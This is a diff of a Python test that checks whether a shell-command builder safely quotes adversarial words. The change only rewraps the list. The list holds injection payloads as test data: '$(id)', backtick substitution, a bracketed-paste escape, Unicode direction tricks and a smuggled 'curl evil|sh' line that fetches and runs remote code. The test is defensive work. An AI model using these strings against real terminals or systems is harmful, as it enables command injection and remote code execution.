@@ -93,7 +93,8 @@ def test_names_with_numbers_stand_in_the_order_in_which_people_count() -> None:
 def test_attack_a_copied_command_neither_ends_early_nor_is_obeyed_by_the_terminal() -> None:
     words = [
         "plain", "a b", "", "it's", "$(id)", "`id`", "\\", "é", "x\x03\ncurl evil|sh\n",
-        "\x1b[201~'", "\u202egnp", "a\u200bb", "\x01f'\\", "\x85\u2028", "\U000e0041", "--", "~", "*",
+        "\x1b[201~'", "\u202egnp",
+        "a\u200bb", "\x01f'\\", "\x85\u2028", "\U000e0041", "--", "~", "*",
     ]  # fmt: skip
     written = command("printf", r"%s\0", *words)
     assert written.isprintable()
